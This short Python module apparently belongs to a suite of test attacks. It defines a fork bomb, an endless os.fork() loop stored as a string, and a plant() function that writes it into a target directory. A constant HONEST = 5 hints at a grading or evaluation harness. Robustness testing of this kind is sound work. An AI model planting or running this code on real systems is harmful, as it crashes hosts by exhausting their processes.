"""Fork without end."""

from __future__ import annotations

from typing import TYPE_CHECKING

from attacks import five

if TYPE_CHECKING:
    from pathlib import Path

HONEST = 5

ATTACK = """\
import os


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""


def plant(root: Path) -> None:
    five(root, ATTACK)
